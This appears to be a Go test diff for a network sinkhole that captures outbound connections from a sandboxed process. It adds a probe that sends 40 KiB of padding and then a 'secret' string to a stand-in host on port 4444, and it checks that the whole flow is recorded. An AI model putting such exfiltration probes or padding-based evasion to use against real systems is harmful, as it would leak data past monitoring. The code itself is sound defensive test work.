@@ -159,6 +159,19 @@ var probes = map[string]func() (string, error){
 		c.Close()
 		return "sent", nil
 	},
+	"padded": func() (string, error) {
+		c, err := net.DialTimeout("tcp", "203.0.113.9:4444", 3*time.Second)
+		if err != nil {
+			return "", err
+		}
+		// in many writes, as a program sends packets
+		for i := 0; i < 40; i++ {
+			_, _ = c.Write(bytes.Repeat([]byte("A"), 1024))
+		}
+		_, _ = c.Write([]byte("tail-secret"))
+		c.Close()
+		return "sent", nil
+	},
 	"udp": func() (string, error) {
 		c, err := net.Dial("udp", "198.51.100.7:9999")
 		if err != nil {
@@ -283,6 +296,16 @@ func TestSinkholeRaw(t *testing.T) {
 	c := find(rep.Events, "connect", "203.0.113.9:4444")
 	if rep.Err != "" || c == nil || c.Data != `id\n` || c.Detail != "sinkholed tcp" {
 		t.Fatalf("events: %+v (probe %q)", rep.Events, rep.Err)
+	}
+}
+
+// The sink keeps a whole flow, not a prefix: a secret behind 40 KiB of
+// padding is in the event.
+func TestSinkholePadded(t *testing.T) {
+	rep := runChild(t, "sinkhole", "padded")
+	c := find(rep.Events, "connect", "203.0.113.9:4444")
+	if rep.Err != "" || c == nil || !strings.HasSuffix(c.Data, strings.Repeat("A", 100)+"tail-secret") {
+		t.Fatalf("events: %.300v (probe %q)", rep.Events, rep.Err)
 	}
 }
 
